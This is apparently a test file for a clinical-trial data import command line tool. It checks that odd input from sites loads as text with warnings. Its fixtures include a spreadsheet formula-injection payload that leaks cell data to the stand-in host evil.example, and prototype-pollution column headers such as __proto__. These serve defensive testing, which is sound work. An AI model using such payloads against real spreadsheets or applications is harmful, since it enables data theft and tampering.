import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildXlsx } from '../fixtures/xlsx-writer';
import { aeCsv, aeRow, AE_HEADER, csv, DM_HEADER, dmCsv } from '../helpers/bad-input-csv';
import { BadInputStudy, CASE, CHILD_TIMEOUT } from '../helpers/bad-input-study';
import { expectWithinMemory } from '../helpers/cli-expect';
import { runCli } from '../helpers/run-cli';
import { dmRow } from '../helpers/study-builder';

/**
 * Odd but valid input through the real command line (cli.md, site-exports.md): formula text,
 * headers named like JavaScript's own properties, impossible dates, UTF-16 text from Excel and
 * symbolic link loops, run as `node bin/cdm.js import DB PATH` in a child process on a study
 * database that already holds one good import. Where the spec says the data load as written, the
 * import exits 0 with a warning, the text kept as text, under 1 GiB of memory.
 */
let study: BadInputStudy;
beforeAll(async () => {
  study = await BadInputStudy.create('cdm-cli-odd-input-');
}, 120_000);
afterAll(() => study?.remove());

interface Report {
  siteId: string;
  forms: Record<string, { rows: number; new: number; changed: number; deleted: number }>;
  files: { path: string; sheet: string | null; form: string; encoding: string | null; rows: number }[];
  unknownColumns: { form: string; column: string; file: string }[];
  warnings: {
    code: string;
    file: string | null;
    sheet: string | null;
    form: string | null;
    line: number | null;
    column: string | null;
    message: string;
  }[];
}

/** Runs an import that must succeed: exit 0, nothing on stderr, the JSON report. */
async function importLoads(db: string, paths: string[], extra: string[] = []): Promise<Report> {
  const run = await runCli(['import', db, ...paths, '--json', ...extra], { timeoutMs: CHILD_TIMEOUT });
  expect(run.timedOut).toBe(false);
  expect(run.code, run.stderr).toBe(0);
  expect(run.stderr).toBe('');
  expectWithinMemory(run);
  return JSON.parse(run.stdout) as Report;
}

async function dataOf(db: string, form: string, raw: boolean): Promise<Record<string, unknown>[]> {
  const run = await runCli(['data', db, '--form', form, '--site', 'S07', ...(raw ? ['--raw'] : [])], {
    timeoutMs: CHILD_TIMEOUT,
  });
  expect(run.code, run.stderr).toBe(0);
  return JSON.parse(run.stdout) as Record<string, unknown>[];
}

/** What spreadsheets run as formulas, as a site may have typed it. */
const FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1', '-2+3', '@SUM(A1)'];

describe.concurrent('import loads odd but valid input as written, with a warning', () => {
  it('formula text in CSV cells is kept as text, never evaluated', CASE, async () => {
    const { dir, db } = study.newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
      'AE.csv': aeCsv(
        FORMULA_TEXT.map((text, i) => aeRow('S07-001', i + 1, { AETERM: text, AEDECOD: text })),
      ),
    });
    const report = await importLoads(db, [dir]);
    expect(report.forms.AE).toEqual({ rows: 4, new: 4, changed: 0, deleted: 0 });
    const file = path.join(dir, 'AE.csv');
    expect(report.warnings.filter((w) => w.file === file).map((w) => w.message)).toEqual([
      // +1 is a plain number to a spreadsheet too; the other three cells of each column are not.
      '6 cells start with =, +, - or @ like a spreadsheet formula (first at line 2, column 3 (AETERM)); kept as text, never evaluated',
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => [r.AETERM, r.AEDECOD])).toEqual(
      FORMULA_TEXT.map((t) => [t, t]),
    );
    expect((await dataOf(db, 'AE', false)).map((r) => [r.AETERM, r.AEDECOD])).toEqual(
      FORMULA_TEXT.map((t) => [t, t]),
    );
  });

  it('formula text in xlsx cells is kept as text; a real formula gives its cached value', CASE, async () => {
    const workbook = buildXlsx([
      { name: 'DM', rows: [DM_HEADER, DM_HEADER.map((h) => dmRow('S07-001', 'S07')[h]!)] },
      {
        name: 'AE',
        rows: [
          AE_HEADER,
          ...FORMULA_TEXT.map((text, i) =>
            AE_HEADER.map((h) => (h === 'AETERM' ? text : aeRow('S07-001', i + 1)[h]!)),
          ),
          AE_HEADER.map((h) =>
            h === 'AETERM'
              ? { formula: 'HYPERLINK("http://evil.example","click")', cached: 'click' }
              : aeRow('S07-001', 5)[h]!,
          ),
        ],
      },
    ]);
    const { dir, db } = study.newCase({ 'S07_20300101.xlsx': workbook });
    const file = path.join(dir, 'S07_20300101.xlsx');
    const report = await importLoads(db, [file]);
    expect(report.forms.AE).toEqual({ rows: 5, new: 5, changed: 0, deleted: 0 });
    expect(report.warnings.filter((w) => w.sheet === 'AE').map((w) => [w.file, w.message])).toEqual([
      [
        file,
        '1 formula cell (first C6) read as the values Excel last calculated; formulas are never evaluated',
      ],
      [
        file,
        '3 text cells start with =, +, - or @ like a spreadsheet formula (first at row 2, column 3 (AETERM)); kept as text, never evaluated',
      ],
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => r.AETERM)).toEqual([...FORMULA_TEXT, 'click']);
    expect((await dataOf(db, 'AE', false)).map((r) => r.AETERM)).toEqual([...FORMULA_TEXT, 'click']);
  });

  it(
    'headers named __proto__, constructor and hasOwnProperty are unknown columns, reported once, shown by data --raw',
    CASE,
    async () => {
      const odd = ['__proto__', 'constructor', 'hasOwnProperty', 'CRF_VERSION'];
      const header = [...DM_HEADER, ...odd];
      const rows = ['S07-001', 'S07-002'].map((s) => [
        ...DM_HEADER.map((h) => dmRow(s, 'S07')[h]!),
        '{"polluted":true}',
        'x',
        'y',
        'v2.1',
      ]);
      const aeWithProto = csv([
        [...AE_HEADER, '__proto__'],
        [...AE_HEADER.map((h) => aeRow('S07-001', 1)[h]!), 'z'],
      ]);
      const { dir, db } = study.newCase({ 'DM.csv': csv([header, ...rows]), 'S07_AE.csv': aeWithProto });
      const report = await importLoads(db, [dir]);
      expect(report.forms.DM).toEqual({ rows: 2, new: 2, changed: 0, deleted: 0 });
      const dmFile = path.join(dir, 'DM.csv');
      expect(report.unknownColumns).toEqual([
        ...odd.map((column) => ({ form: 'DM', column, file: dmFile })),
        { form: 'AE', column: '__proto__', file: path.join(dir, 'S07_AE.csv') },
      ]);
      const unknown = report.warnings.filter((w) => w.code === 'UNKNOWN_COLUMN');
      expect(unknown.map((w) => `${w.form}.${w.column}`)).toEqual([
        ...odd.map((c) => `DM.${c}`),
        'AE.__proto__',
      ]);
      const raw = await dataOf(db, 'DM', true);
      expect(raw).toHaveLength(2);
      for (const record of raw) {
        expect(Object.getOwnPropertyDescriptor(record, '__proto__')?.value).toBe('{"polluted":true}');
        expect(Object.getOwnPropertyDescriptor(record, 'constructor')?.value).toBe('x');
        expect(Object.getOwnPropertyDescriptor(record, 'hasOwnProperty')?.value).toBe('y');
        expect(record.CRF_VERSION).toBe('v2.1');
      }
      expect(
        (await dataOf(db, 'AE', true)).map((r) => Object.getOwnPropertyDescriptor(r, '__proto__')?.value),
      ).toEqual(['z']);
    },
  );

  it('impossible dates are kept raw and reported', CASE, async () => {
    const { dir, db } = study.newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07', { RFICDAT: '2018-13-01' })]),
      'AE.csv': aeCsv([
        aeRow('S07-001', 1, { AESTDAT: '2019-02-30' }),
        aeRow('S07-001', 2, { AESTDAT: '2019-02-28', AEENDAT: 'after discharge' }),
      ]),
    });
    const report = await importLoads(db, [dir]);
    expect(report.forms.AE).toEqual({ rows: 2, new: 2, changed: 0, deleted: 0 });
    expect(report.warnings.map((w) => [w.file, w.line, w.column, w.message])).toEqual([
      [
        path.join(dir, 'AE.csv'),
        2,
        'AESTDAT',
        'AESTDAT "2019-02-30" is not a valid date (2019-02 has no day 30)',
      ],
      [path.join(dir, 'AE.csv'), 3, 'AEENDAT', 'AEENDAT "after discharge" is not a valid date (not a date)'],
      [
        path.join(dir, 'DM.csv'),
        2,
        'RFICDAT',
        'RFICDAT "2018-13-01" is not a valid date (month 13 does not exist)',
      ],
    ]);
    expect((await dataOf(db, 'AE', true)).map((r) => [r.AESTDAT, r.AEENDAT])).toEqual([
      ['2019-02-30', '2018-02-05'],
      ['2019-02-28', 'after discharge'],
    ]);
    expect((await dataOf(db, 'AE', false)).map((r) => [r.AESTDAT, r.AEENDAT])).toEqual([
      [null, '2018-02-05'],
      ['2019-02-28', null],
    ]);
    expect((await dataOf(db, 'DM', true)).map((r) => r.RFICDAT)).toEqual(['2018-13-01']);
  });

  it('UTF-16LE "Unicode Text" from Excel', CASE, async () => {
    const tsv = (rows: string[][]) =>
      Buffer.from(`\ufeff${rows.map((r) => r.join('\t')).join('\r\n')}\r\n`, 'utf16le');
    const { dir, db } = study.newCase({
      'DM.txt': tsv([DM_HEADER, DM_HEADER.map((h) => dmRow('S07-001', 'S07')[h]!)]),
      'AE.txt': tsv([
        AE_HEADER,
        AE_HEADER.map((h) => aeRow('S07-001', 1, { AETERM: '호중구 감소증' })[h]!),
        AE_HEADER.map((h) => aeRow('S07-001', 2, { AETERM: '말초 신경병증' })[h]!),
      ]),
    });
    const report = await importLoads(db, [dir]);
    expect(report.files.map((f) => [f.form, f.encoding, f.rows])).toEqual([
      ['AE', 'utf-16le', 2],
      ['DM', 'utf-16le', 1],
    ]);
    expect((await dataOf(db, 'AE', false)).map((r) => r.AETERM)).toEqual(['호중구 감소증', '말초 신경병증']);
  });

  it('a symbolic link loop in a folder: the real files are read once, the links reported', CASE, async () => {
    const { dir, db } = study.newCase({
      'DM.csv': dmCsv([dmRow('S07-001', 'S07')]),
      'sub/AE.csv': aeCsv([aeRow('S07-001', 1)]),
    });
    fs.symlinkSync(dir, path.join(dir, 'sub', 'back'));
    fs.symlinkSync(path.join(dir, 'sub', 'loop'), path.join(dir, 'sub', 'loop'));
    fs.symlinkSync(path.join(dir, 'DM.csv'), path.join(dir, 'sub', 'DM-again.csv'));
    const report = await importLoads(db, [dir]);
    expect(report.forms).toEqual({
      DM: { rows: 1, new: 1, changed: 0, deleted: 0 },
      AE: { rows: 1, new: 1, changed: 0, deleted: 0 },
    });
    expect(report.warnings.filter((w) => w.code === 'FILE').map((w) => [w.file, w.message])).toEqual([
      [path.join(dir, 'sub', 'DM-again.csv'), `the same file as ${path.join(dir, 'DM.csv')}; read once`],
      [path.join(dir, 'sub', 'back'), 'a folder already read by another path (a symbolic link); skipped'],
      [path.join(dir, 'sub', 'loop'), 'a symbolic link that leads nowhere (broken, or a loop); skipped'],
    ]);
  });
});
